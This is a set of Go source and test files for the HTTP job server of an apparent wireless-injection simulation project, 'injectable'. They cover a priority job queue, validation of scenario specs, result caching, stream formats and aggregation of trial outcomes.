	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: hub})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	c := &Client{Base: ts.URL}
	_, err := c.Run(context.Background(), JobSpec{Experiment: "does-not-exist"})
	if err == nil || !strings.Contains(err.Error(), "does-not-exist") {
		t.Errorf("client error lost the server's message: %v", err)
	}

	// A proxy-style HTML error page: the snippet, not just the status line.
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusBadGateway)
		w.Write([]byte("<html>upstream exploded</html>"))
	}))
	defer proxy.Close()
	pc := &Client{Base: proxy.URL}
	_, err = pc.Run(context.Background(), JobSpec{Experiment: "stub"})
	if err == nil || !strings.Contains(err.Error(), "upstream exploded") {
		t.Errorf("client error lost the raw body snippet: %v", err)
	}
}

// TestMetricsJSONRoundTrip: Client.Metrics decodes the JSON snapshot the
// aggregator scrapes, preserving counters for a later Merge.
func TestMetricsJSONRoundTrip(t *testing.T) {
	hub := obs.NewHub()
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: hub})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	if resp, _ := postRun(t, ts.URL, `{"experiment":"stub","trials":2,"seed_base":1}`); resp.StatusCode != http.StatusOK {
		t.Fatalf("run: HTTP %d", resp.StatusCode)
	}
	c := &Client{Base: ts.URL}
	snap, err := c.Metrics(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var done int64 = -1
	for _, ct := range snap.Counters {
		if ct.Name == "serve.jobs_done" {
			done = ct.Value
		}
	}
	if done != 1 {
		t.Errorf("scraped serve.jobs_done = %d, want 1", done)
	}
}
