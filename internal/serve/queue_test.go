package serve

import (
	"errors"
	"fmt"
	"testing"
	"time"
)

func qjob(id string, prio int) *job {
	return newJob(id, JobSpec{Experiment: "stub", Priority: prio}.Normalize(), time.Now())
}

func TestQueuePriorityThenFIFO(t *testing.T) {
	q := newJobQueue(16)
	// Two priority levels, interleaved pushes.
	for i := 0; i < 3; i++ {
		if err := q.push(qjob(fmt.Sprintf("lo-%d", i), 0)); err != nil {
			t.Fatal(err)
		}
		if err := q.push(qjob(fmt.Sprintf("hi-%d", i), 5)); err != nil {
			t.Fatal(err)
		}
	}
	want := []string{"hi-0", "hi-1", "hi-2", "lo-0", "lo-1", "lo-2"}
	for _, id := range want {
		j, ok := q.pop()
		if !ok {
			t.Fatal("queue closed unexpectedly")
		}
		if j.id != id {
			t.Fatalf("popped %s, want %s", j.id, id)
		}
	}
}

func TestQueueFullAndClosed(t *testing.T) {
	q := newJobQueue(2)
	if err := q.push(qjob("a", 0)); err != nil {
		t.Fatal(err)
	}
	if err := q.push(qjob("b", 0)); err != nil {
		t.Fatal(err)
	}
	if err := q.push(qjob("c", 0)); !errors.Is(err, ErrQueueFull) {
		t.Fatalf("push to full queue: %v, want ErrQueueFull", err)
	}
	if d := q.depth(); d != 2 {
		t.Fatalf("depth = %d, want 2", d)
	}
	q.close()
	if err := q.push(qjob("d", 0)); !errors.Is(err, ErrQueueClosed) {
		t.Fatalf("push to closed queue: %v, want ErrQueueClosed", err)
	}
	// Close drains: the two accepted jobs still pop, then pops fail.
	for _, id := range []string{"a", "b"} {
		j, ok := q.pop()
		if !ok || j.id != id {
			t.Fatalf("drain pop = %v/%v, want %s", j, ok, id)
		}
	}
	if _, ok := q.pop(); ok {
		t.Fatal("pop succeeded on closed empty queue")
	}
}

func TestQueuePopBlocksUntilPush(t *testing.T) {
	q := newJobQueue(4)
	got := make(chan string, 1)
	go func() {
		j, ok := q.pop()
		if ok {
			got <- j.id
		} else {
			got <- "(closed)"
		}
	}()
	select {
	case id := <-got:
		t.Fatalf("pop returned %s before any push", id)
	case <-time.After(20 * time.Millisecond):
	}
	if err := q.push(qjob("x", 0)); err != nil {
		t.Fatal(err)
	}
	select {
	case id := <-got:
		if id != "x" {
			t.Fatalf("pop = %s, want x", id)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("pop did not wake after push")
	}
}

func TestQueueCloseWakesBlockedPop(t *testing.T) {
	q := newJobQueue(4)
	done := make(chan bool, 1)
	go func() {
		_, ok := q.pop()
		done <- ok
	}()
	time.Sleep(10 * time.Millisecond)
	q.close()
	select {
	case ok := <-done:
		if ok {
			t.Fatal("pop returned a job from an empty closed queue")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("close did not wake blocked pop")
	}
}
