package serve

import (
	"errors"
	"sync"
)

// ErrQueueFull rejects a submission when the queue is at capacity. The
// HTTP layer translates it into 429 + Retry-After; it must never block
// the caller.
var ErrQueueFull = errors.New("serve: job queue full")

// ErrQueueClosed rejects submissions after drain has begun.
var ErrQueueClosed = errors.New("serve: job queue closed")

// jobQueue is a bounded priority FIFO: pops take the highest non-empty
// priority level, oldest first within a level. Push never blocks — a full
// queue is an admission failure, not backpressure. Close stops admission
// while letting pops drain what was already accepted.
type jobQueue struct {
	mu     sync.Mutex
	cond   *sync.Cond
	cap    int
	size   int
	closed bool
	levels [MaxPriority + 1]jobRing
}

// jobRing is a FIFO of jobs with an amortized-O(1) head pointer.
type jobRing struct {
	items []*job
	head  int
}

func (r *jobRing) push(j *job) { r.items = append(r.items, j) }

func (r *jobRing) pop() *job {
	j := r.items[r.head]
	r.items[r.head] = nil
	r.head++
	if r.head > len(r.items)/2 && r.head > 16 {
		r.items = append(r.items[:0], r.items[r.head:]...)
		r.head = 0
	}
	return j
}

func (r *jobRing) len() int { return len(r.items) - r.head }

// newJobQueue returns a queue admitting at most capacity jobs.
func newJobQueue(capacity int) *jobQueue {
	q := &jobQueue{cap: capacity}
	q.cond = sync.NewCond(&q.mu)
	return q
}

// push admits a job or fails immediately with ErrQueueFull/ErrQueueClosed.
func (q *jobQueue) push(j *job) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrQueueClosed
	}
	if q.size >= q.cap {
		return ErrQueueFull
	}
	p := j.spec.Priority
	q.levels[p].push(j)
	q.size++
	q.cond.Signal()
	return nil
}

// pop blocks until a job is available or the queue is closed and empty;
// the second return is false only in the latter case.
func (q *jobQueue) pop() (*job, bool) {
	q.mu.Lock()
	defer q.mu.Unlock()
	for {
		if q.size > 0 {
			for p := MaxPriority; p >= 0; p-- {
				if q.levels[p].len() > 0 {
					q.size--
					return q.levels[p].pop(), true
				}
			}
		}
		if q.closed {
			return nil, false
		}
		q.cond.Wait()
	}
}

// close stops admission; blocked and future pops drain the remainder.
func (q *jobQueue) close() {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.closed = true
	q.cond.Broadcast()
}

// depth returns the number of queued jobs.
func (q *jobQueue) depth() int {
	q.mu.Lock()
	defer q.mu.Unlock()
	return q.size
}
