package serve

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"injectable/internal/campaign"
	"injectable/internal/obs"
)

func postScenario(t *testing.T, base, query, body string) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Post(base+"/v1/scenario"+query, "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, data
}

// TestScenarioRejectsWithFieldPaths is the structured-error contract:
// an inadmissible spec is rejected at the door — no world, no job — with
// a JSON body whose fields[] pin each failure to a spec path.
func TestScenarioRejectsWithFieldPaths(t *testing.T) {
	s := NewServer(Config{Hub: obs.NewHub()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	cases := []struct {
		name string
		body string
		path string // expected FieldError path ("" = decode-level error, no fields)
		msg  string // substring the matching msg must contain
	}{
		{
			name: "bad version",
			body: `{"version":7}`,
			path: "version",
			msg:  "unsupported version 7",
		},
		{
			name: "unknown top-level field",
			body: `{"version":1,"devicez":[]}`,
			path: "",
			msg:  "devicez",
		},
		{
			name: "unknown device type",
			body: `{"version":1,"devices":[{"type":"toaster"},{"type":"phone"}]}`,
			path: "devices[0].type",
			msg:  `unknown device type "toaster"`,
		},
		{
			name: "second central",
			body: `{"version":1,"devices":[{"type":"phone"},{"type":"phone"},{"type":"lightbulb"}]}`,
			path: "devices[1].type",
			msg:  "exactly one central",
		},
		{
			name: "interval out of range",
			body: `{"version":1,"conn":{"interval":4000}}`,
			path: "conn.interval",
			msg:  "out of range [6,3200]",
		},
		{
			name: "zero-length wall",
			body: `{"version":1,"walls":[{"a":{"x":1,"y":1},"b":{"x":1,"y":1}}]}`,
			path: "walls[0]",
			msg:  "zero-length wall",
		},
		{
			name: "axis with values and range",
			body: `{"version":1,"sweep":[{"field":"conn.interval","values":[25],"range":{"from":25,"to":50,"step":25}}]}`,
			path: "sweep[0]",
			msg:  "exactly one of values and range",
		},
		{
			name: "unsweepable field",
			body: `{"version":1,"sweep":[{"field":"conn.bogus","values":[1]}]}`,
			path: "sweep[0].field",
			msg:  "conn.bogus",
		},
		{
			name: "point count over limit",
			body: `{"version":1,"sweep":[` +
				`{"field":"conn.interval","range":{"from":6,"to":80,"step":1}},` +
				`{"field":"conn.latency","range":{"from":0,"to":30,"step":1}}]}`,
			path: "sweep",
			msg:  "exceed the limit",
		},
		{
			name: "total sim budget over limit",
			body: `{"version":1,"run":{"sim_seconds":600},` +
				`"sweep":[{"field":"conn.latency","range":{"from":0,"to":200,"step":1}}]}`,
			path: "run.sim_seconds",
			msg:  "admission limit",
		},
		{
			name: "bulb payload without bulb",
			body: `{"version":1,"devices":[{"type":"phone"},{"type":"keyfob"}],"attacker":{"payload":"toggle"}}`,
			path: "attacker.payload",
			msg:  "needs a lightbulb victim",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			resp, data := postScenario(t, ts.URL, "", tc.body)
			if resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("HTTP %d (%s), want 400", resp.StatusCode, data)
			}
			if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
				t.Errorf("Content-Type = %q, want application/json", ct)
			}
			var body struct {
				Error  string `json:"error"`
				Fields []struct {
					Path string `json:"path"`
					Msg  string `json:"msg"`
				} `json:"fields"`
			}
			if err := json.Unmarshal(data, &body); err != nil {
				t.Fatalf("error body is not JSON: %v\n%s", err, data)
			}
			if body.Error == "" {
				t.Fatalf("error body missing error message: %s", data)
			}
			if tc.path == "" {
				if len(body.Fields) != 0 {
					t.Errorf("decode-level error grew fields: %s", data)
				}
				if !strings.Contains(body.Error, tc.msg) {
					t.Errorf("error %q missing %q", body.Error, tc.msg)
				}
				return
			}
			found := false
			for _, f := range body.Fields {
				if f.Path == tc.path {
					found = true
					if !strings.Contains(f.Msg, tc.msg) {
						t.Errorf("fields[%q] msg %q missing %q", f.Path, f.Msg, tc.msg)
					}
				}
			}
			if !found {
				t.Errorf("no field error at path %q in %s", tc.path, data)
			}
		})
	}
}

// TestScenarioDedupKeyCanonical: two spellings of the same world — field
// order, explicit defaults, range vs values — must compute one dedup key,
// and a genuinely different world must not.
func TestScenarioDedupKeyCanonical(t *testing.T) {
	spellings := []string{
		`{"version":1,"name":"w","conn":{"interval":36}}`,
		`{"version":1,"name":"w"}`,
		`{"name":"w","version":1,"attacker":{"goal":"inject"}}`,
		`{"version":1,"name":"w","run":{"sim_seconds":120},"seed":{"stride":1000}}`,
	}
	keys := make([]string, 0, len(spellings))
	for _, raw := range spellings {
		spec, err := ScenarioJobSpec([]byte(raw), JobSpec{Trials: 2})
		if err != nil {
			t.Fatalf("spelling %s: %v", raw, err)
		}
		keys = append(keys, spec.Key())
	}
	for i, k := range keys[1:] {
		if k != keys[0] {
			t.Errorf("spelling %d key %s != %s", i+1, k, keys[0])
		}
	}
	other, err := ScenarioJobSpec([]byte(`{"version":1,"name":"w","conn":{"interval":50}}`), JobSpec{Trials: 2})
	if err != nil {
		t.Fatal(err)
	}
	if other.Key() == keys[0] {
		t.Error("different worlds share a dedup key")
	}
}

// TestScenarioEndpointServesAndCaches runs a small declarative sweep
// through POST /v1/scenario end to end: the stream must be byte-identical
// to a serial campaign built from the same spec, an equivalent spelling
// must replay from the cache, and X-Job-ID must be set.
func TestScenarioEndpointServesAndCaches(t *testing.T) {
	if testing.Short() {
		t.Skip("runs full scenario simulations")
	}
	s := NewServer(Config{Hub: obs.NewHub(), TrialWorkers: 2})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	body := `{"version":1,"name":"dsl-smoke","sweep":[{"field":"conn.interval","values":[25,50]}]}`
	resp, data := postScenario(t, ts.URL, "?trials=2&seed_base=7", body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("HTTP %d: %s", resp.StatusCode, data)
	}
	if resp.Header.Get("X-Job-ID") == "" {
		t.Error("missing X-Job-ID")
	}

	spec, err := ScenarioJobSpec([]byte(body), JobSpec{Trials: 2, SeedBase: 7})
	if err != nil {
		t.Fatal(err)
	}
	camp, err := DefaultRegistry().Build(spec)
	if err != nil {
		t.Fatal(err)
	}
	var ref bytes.Buffer
	runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&ref)}}
	if _, err := runner.Run(camp); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, ref.Bytes()) {
		t.Fatalf("served stream differs from serial campaign:\n%s\n--- vs ---\n%s", data, ref.Bytes())
	}

	// An equivalent spelling (reordered fields, explicit defaults, a range
	// instead of the value list) replays from the cache, byte-identical.
	respell := `{"name":"dsl-smoke","version":1,"run":{"sim_seconds":120},` +
		`"sweep":[{"field":"conn.interval","range":{"from":25,"to":50,"step":25}}]}`
	resp2, data2 := postScenario(t, ts.URL, "?trials=2&seed_base=7", respell)
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("HTTP %d: %s", resp2.StatusCode, data2)
	}
	if got := resp2.Header.Get("X-Cache"); got != "hit" {
		t.Errorf("equivalent spelling X-Cache = %q, want hit", got)
	}
	if !bytes.Equal(data2, data) {
		t.Error("cached replay differs from first stream")
	}

	// A point-range slice of the same spec is its own key and its stream
	// is the matching prefix of the full sweep — the fabric shard contract.
	resp3, data3 := postScenario(t, ts.URL, "?trials=2&seed_base=7&point_count=1", body)
	if resp3.StatusCode != http.StatusOK {
		t.Fatalf("HTTP %d: %s", resp3.StatusCode, data3)
	}
	if got := resp3.Header.Get("X-Cache"); got != "miss" {
		t.Errorf("sliced job X-Cache = %q, want miss", got)
	}
}
