package serve

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"injectable/internal/campaign"
	"injectable/internal/obs"
)

// TestStreamFormatNegotiation pins the resolution order: explicit
// ?format= wins, then the Accept header, then the NDJSON default that
// every pre-binary consumer relies on.
func TestStreamFormatNegotiation(t *testing.T) {
	req := func(url string, accept string) *http.Request {
		r := httptest.NewRequest(http.MethodGet, url, nil)
		if accept != "" {
			r.Header.Set("Accept", accept)
		}
		return r
	}
	cases := []struct {
		name     string
		r        *http.Request
		allowSSE bool
		want     string
		wantErr  bool
	}{
		{"default", req("/x", ""), false, FormatNDJSON, false},
		{"query-binary", req("/x?format=binary", ""), false, FormatBinary, false},
		{"query-ndjson", req("/x?format=ndjson", "application/x-injectable-trials"), false, FormatNDJSON, false},
		{"query-beats-accept", req("/x?format=binary", "text/event-stream"), true, FormatBinary, false},
		{"accept-binary", req("/x", "application/x-injectable-trials"), false, FormatBinary, false},
		{"accept-sse-allowed", req("/x", "text/event-stream"), true, formatSSE, false},
		{"accept-sse-ignored-on-run", req("/x", "text/event-stream"), false, FormatNDJSON, false},
		{"query-sse-allowed", req("/x?format=sse", ""), true, formatSSE, false},
		{"query-sse-rejected-on-run", req("/x?format=sse", ""), false, "", true},
		{"unknown", req("/x?format=protobuf", ""), false, "", true},
	}
	for _, tc := range cases {
		got, err := streamFormat(tc.r, tc.allowSSE)
		if tc.wantErr {
			if err == nil {
				t.Errorf("%s: got %q, want error", tc.name, got)
			}
			continue
		}
		if err != nil || got != tc.want {
			t.Errorf("%s: got %q/%v, want %q", tc.name, got, err, tc.want)
		}
	}
}

func runFormat(t *testing.T, base, body, query, accept string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, base+"/v1/run"+query, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, data
}

// TestRunFormatEquivalence is the cross-format replay contract: one
// execution, every format a lossless view of it. The binary stream
// transcodes to exactly the NDJSON the daemon serves, both replay
// byte-identically on cache hits, and the round trip back to binary
// reproduces the slab bit-for-bit.
func TestRunFormatEquivalence(t *testing.T) {
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: obs.NewHub()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	body := `{"experiment":"stub","trials":24,"seed_base":909}`

	resp, bin := runFormat(t, ts.URL, body, "?format=binary", "")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("binary run: HTTP %d: %s", resp.StatusCode, bin)
	}
	if ct := resp.Header.Get("Content-Type"); ct != BinaryContentType {
		t.Errorf("binary Content-Type = %q, want %q", ct, BinaryContentType)
	}

	resp, nd := runFormat(t, ts.URL, body, "", "")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("ndjson run: HTTP %d: %s", resp.StatusCode, nd)
	}
	if got := resp.Header.Get("X-Cache"); got != "hit" {
		t.Errorf("second run disposition = %q, want hit", got)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("ndjson Content-Type = %q, want application/x-ndjson", ct)
	}

	var fromBin bytes.Buffer
	if err := campaign.TranscodeBinaryToNDJSON(&fromBin, bin); err != nil {
		t.Fatalf("transcoding served binary: %v", err)
	}
	if !bytes.Equal(fromBin.Bytes(), nd) {
		t.Fatal("binary→NDJSON transcode differs from the daemon's NDJSON response")
	}
	var backToBin bytes.Buffer
	if err := campaign.TranscodeNDJSONToBinary(&backToBin, nd); err != nil {
		t.Fatalf("transcoding served NDJSON: %v", err)
	}
	if !bytes.Equal(backToBin.Bytes(), bin) {
		t.Fatal("NDJSON→binary round trip differs from the daemon's binary response")
	}

	// Replays: every repeat request in either format is byte-identical.
	for i := 0; i < 2; i++ {
		if _, again := runFormat(t, ts.URL, body, "?format=binary", ""); !bytes.Equal(again, bin) {
			t.Fatal("binary replay differs")
		}
		if _, again := runFormat(t, ts.URL, body, "", ""); !bytes.Equal(again, nd) {
			t.Fatal("NDJSON replay differs")
		}
		// Accept-header negotiation serves the same bytes as ?format=.
		if _, again := runFormat(t, ts.URL, body, "", BinaryContentType); !bytes.Equal(again, bin) {
			t.Fatal("Accept-negotiated binary differs")
		}
	}

	// A live (non-cached) binary subscriber sees the same bytes too: new
	// seed, concurrent NDJSON and binary runs of it.
	body2 := `{"experiment":"stub","trials":24,"seed_base":910}`
	_, bin2 := runFormat(t, ts.URL, body2, "?format=binary", "")
	_, nd2 := runFormat(t, ts.URL, body2, "", "")
	var fromBin2 bytes.Buffer
	if err := campaign.TranscodeBinaryToNDJSON(&fromBin2, bin2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(fromBin2.Bytes(), nd2) {
		t.Fatal("fresh-run transcode differs from NDJSON response")
	}

	if err := s.Drain(t.Context()); err != nil {
		t.Fatal(err)
	}
}

// TestRunRejectsUnknownFormat pins the 400 on a bad ?format=.
func TestRunRejectsUnknownFormat(t *testing.T) {
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil)})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	resp, body := runFormat(t, ts.URL, `{"experiment":"stub","trials":1,"seed_base":1}`, "?format=xml", "")
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("HTTP %d (%s), want 400", resp.StatusCode, body)
	}
}

// aggRegistry registers an experiment whose trial values carry the
// success/attempts fields the aggregator probes: point "even" succeeds
// on even trials (attempts = trial%3+1), point "odd" errors its trial 0.
func aggRegistry() *Registry {
	type trialValue struct {
		Success  bool `json:"success"`
		Attempts int  `json:"attempts"`
	}
	r := NewRegistry()
	r.Register(Entry{
		Name: "agg",
		Build: func(spec JobSpec) (*campaign.Spec, error) {
			point := func(label string, failFirst bool) campaign.Point {
				return campaign.Point{
					Label:  label,
					Trials: spec.Trials,
					Seed:   func(i int) uint64 { return spec.SeedBase + uint64(i) },
					Run: func(t campaign.Trial) (any, error) {
						if failFirst && t.Index == 0 {
							return nil, fmt.Errorf("sim buffer underrun")
						}
						return trialValue{Success: t.Index%2 == 0, Attempts: t.Index%3 + 1}, nil
					},
				}
			}
			return &campaign.Spec{
				Name:     "agg",
				SeedBase: spec.SeedBase,
				Points:   []campaign.Point{point("even", false), point("odd", true)},
			}, nil
		},
	})
	return r
}

// TestAggregateEndpoint runs a campaign with known per-point outcomes
// and checks the columnar summary: counts, rates, histogram mass, and
// that the memoized aggregate is identical on a cache-hit repeat.
func TestAggregateEndpoint(t *testing.T) {
	s := NewServer(Config{Registry: aggRegistry(), Hub: obs.NewHub()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	body := `{"experiment":"agg","trials":6,"seed_base":11}`

	post := func() (*http.Response, Aggregate) {
		resp, err := http.Post(ts.URL+"/v1/aggregate", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		raw, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("HTTP %d: %s", resp.StatusCode, raw)
		}
		var agg Aggregate
		if err := json.Unmarshal(raw, &agg); err != nil {
			t.Fatalf("decoding aggregate: %v (%s)", err, raw)
		}
		return resp, agg
	}

	resp, agg := post()
	if agg.Campaign != "agg" || agg.SeedBase != 11 {
		t.Errorf("identity = %s/%d, want agg/11", agg.Campaign, agg.SeedBase)
	}
	// 12 trials total; "odd" trial 0 errors, all other 11 return values;
	// successes are even trial indexes with a value: even has 3 of 6,
	// odd has trials 2 and 4 (trial 0 errored).
	if agg.Trials != 12 || agg.OK != 11 || agg.Failed != 1 {
		t.Errorf("tallies = %d/%d/%d, want 12/11/1", agg.Trials, agg.OK, agg.Failed)
	}
	if agg.Successes != 5 {
		t.Errorf("successes = %d, want 5", agg.Successes)
	}
	if len(agg.Points) != 2 || agg.Points[0].Point != "even" || agg.Points[1].Point != "odd" {
		t.Fatalf("points = %+v, want [even odd] in ordinal order", agg.Points)
	}
	even, odd := agg.Points[0], agg.Points[1]
	if even.Trials != 6 || even.OK != 6 || even.Failed != 0 || even.Successes != 3 {
		t.Errorf("even = %+v", even)
	}
	if odd.Trials != 6 || odd.OK != 5 || odd.Failed != 1 || odd.Successes != 2 {
		t.Errorf("odd = %+v", odd)
	}
	if even.SuccessRate != 0.5 || agg.SuccessRate != 5.0/12.0 {
		t.Errorf("rates = %v / %v", even.SuccessRate, agg.SuccessRate)
	}
	// Histogram mass: every non-errored trial contributed one attempts
	// sample (attempts is always >= 1), and the campaign histogram is the
	// exact merge of the point histograms.
	if agg.Attempts.Count != 11 || agg.Attempts.Count != even.Attempts.Count+odd.Attempts.Count {
		t.Errorf("attempts count = %d (even %d + odd %d), want 11",
			agg.Attempts.Count, even.Attempts.Count, odd.Attempts.Count)
	}
	if agg.Attempts.Min != 1 || agg.Attempts.Max != 3 {
		t.Errorf("attempts min/max = %v/%v, want 1/3", agg.Attempts.Min, agg.Attempts.Max)
	}

	// Repeat: a cache hit serves the memoized aggregate, identical JSON.
	resp2, agg2 := post()
	if resp.Header.Get("X-Cache") != "miss" || resp2.Header.Get("X-Cache") != "hit" {
		t.Errorf("dispositions = %q then %q, want miss then hit",
			resp.Header.Get("X-Cache"), resp2.Header.Get("X-Cache"))
	}
	a1, _ := json.Marshal(agg)
	a2, _ := json.Marshal(agg2)
	if !bytes.Equal(a1, a2) {
		t.Error("cache-hit aggregate differs from the first computation")
	}

	// GET /v1/jobs/{id}/aggregate answers the same summary.
	id := resp.Header.Get("X-Job-ID")
	jr, err := http.Get(ts.URL + "/v1/jobs/" + id + "/aggregate")
	if err != nil {
		t.Fatal(err)
	}
	defer jr.Body.Close()
	var byJob Aggregate
	if err := json.NewDecoder(jr.Body).Decode(&byJob); err != nil {
		t.Fatal(err)
	}
	a3, _ := json.Marshal(byJob)
	if !bytes.Equal(a1, a3) {
		t.Error("per-job aggregate differs from the submit-path aggregate")
	}

	// The aggregate must agree with aggregating the served binary stream.
	_, bin := runFormat(t, ts.URL, body, "?format=binary", "")
	direct, err := AggregateStream(bin)
	if err != nil {
		t.Fatal(err)
	}
	a4, _ := json.Marshal(direct)
	if !bytes.Equal(a1, a4) {
		t.Error("endpoint aggregate differs from AggregateStream over the served binary")
	}
}

// TestAggregateClient exercises the typed client helper end to end.
func TestAggregateClient(t *testing.T) {
	s := NewServer(Config{Registry: aggRegistry()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	c := &Client{Base: ts.URL}
	agg, err := c.Aggregate(t.Context(), JobSpec{Experiment: "agg", Trials: 4, SeedBase: 3})
	if err != nil {
		t.Fatal(err)
	}
	if agg.Trials != 8 || len(agg.Points) != 2 {
		t.Fatalf("aggregate = %+v, want 8 trials over 2 points", agg)
	}
}
