package serve

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"injectable/internal/campaign"
	"injectable/internal/obs"
	"injectable/internal/scenario"
)

// Config shapes a Server. The zero value of every field is replaced by
// the documented default.
type Config struct {
	// Registry maps experiment names to campaigns. Nil means
	// DefaultRegistry().
	Registry *Registry
	// Hub receives the serving metrics. Nil disables them (every obs
	// method no-ops on nil receivers).
	Hub *obs.Hub
	// QueueCap bounds the admission queue (default 64). A full queue
	// answers 429 with a Retry-After hint.
	QueueCap int
	// JobWorkers is the number of campaigns executed concurrently
	// (default 2). Each job gets its own campaign worker pool.
	JobWorkers int
	// TrialWorkers is the campaign pool size per job (default 0 =
	// GOMAXPROCS). Worker count never changes result bytes.
	TrialWorkers int
	// CacheEntries bounds the completed-result LRU (default 256).
	CacheEntries int
	// RetryAfter is the hint returned with 429/503 (default 2s).
	RetryAfter time.Duration
	// DefaultTimeout caps a job's run when the spec carries no timeout_ms
	// (default 5m).
	DefaultTimeout time.Duration
	// Log receives structured lifecycle events (admissions, completions,
	// rejects, drain). Nil means silent — the historical behavior.
	Log *slog.Logger
}

func (c Config) withDefaults() Config {
	if c.Registry == nil {
		c.Registry = DefaultRegistry()
	}
	if c.QueueCap <= 0 {
		c.QueueCap = 64
	}
	if c.JobWorkers <= 0 {
		c.JobWorkers = 2
	}
	if c.CacheEntries <= 0 {
		c.CacheEntries = 256
	}
	if c.RetryAfter <= 0 {
		c.RetryAfter = 2 * time.Second
	}
	if c.DefaultTimeout <= 0 {
		c.DefaultTimeout = 5 * time.Minute
	}
	return c
}

// errDraining rejects submissions while the server shuts down.
var errDraining = errors.New("serve: draining, not accepting jobs")

// Server executes campaign jobs behind an HTTP/JSON API.
//
// Submission dispositions, in decision order:
//
//	draining  -> 503 + Retry-After
//	invalid   -> 400
//	join      -> an identical spec is already queued or running; the
//	             submission attaches to that job (singleflight)
//	hit       -> an identical spec already completed; the cached stream
//	             replays byte-identically
//	miss      -> admitted onto the queue (429 + Retry-After when full)
type Server struct {
	cfg   Config
	queue *jobQueue
	cache *resultCache
	ids   jobIDs
	mux   *http.ServeMux
	wg    sync.WaitGroup
	log   *slog.Logger

	mu       sync.Mutex
	jobs     map[string]*job // by id, including terminal jobs
	live     map[string]*job // by spec key, queued or running only
	inflight int
	draining bool
}

// NewServer starts a server's executors and returns it. Call Drain or
// Close to stop.
func NewServer(cfg Config) *Server {
	cfg = cfg.withDefaults()
	s := &Server{
		cfg:   cfg,
		queue: newJobQueue(cfg.QueueCap),
		cache: newResultCache(cfg.CacheEntries),
		jobs:  map[string]*job{},
		live:  map[string]*job{},
		log:   obs.LoggerOr(cfg.Log),
	}
	s.routes()
	for i := 0; i < cfg.JobWorkers; i++ {
		s.wg.Add(1)
		go s.executor()
	}
	return s
}

// Handler returns the server's HTTP handler.
func (s *Server) Handler() http.Handler { return s.mux }

// reg is shorthand for the metrics registry (nil-safe).
func (s *Server) reg() *obs.Registry { return s.cfg.Hub.Reg() }

func msHist() []float64 { return obs.LatencyBucketsMS() }

// Submit admits a job spec. The returned disposition is one of "miss"
// (admitted as a fresh execution), "join" (attached to an identical
// in-flight job) or "hit" (replaying a completed identical job from the
// cache); the returned job is terminal already on a hit. Errors:
// errDraining, ErrQueueFull, or a validation error.
func (s *Server) Submit(spec JobSpec) (*job, string, error) {
	return s.submit(spec, "")
}

// submit is Submit with an optional caller-propagated trace id (from the
// X-Trace-Id header; a coordinator passes its campaign-level spec hash so
// worker-side spans join the fleet trace). An empty trace defaults to the
// job's own canonical key.
func (s *Server) submit(spec JobSpec, trace string) (*job, string, error) {
	norm, err := s.cfg.Registry.Validate(spec)
	if err != nil {
		s.reg().Counter("serve.reject_invalid").Inc()
		s.log.Warn("job rejected", "reason", "invalid", "err", err)
		return nil, "", err
	}
	key := norm.Key()
	if trace == "" {
		trace = key
	}

	s.mu.Lock()
	defer s.mu.Unlock()
	if s.draining {
		s.reg().Counter("serve.reject_draining").Inc()
		s.log.Warn("job rejected", "reason", "draining", "key", key)
		return nil, "", errDraining
	}
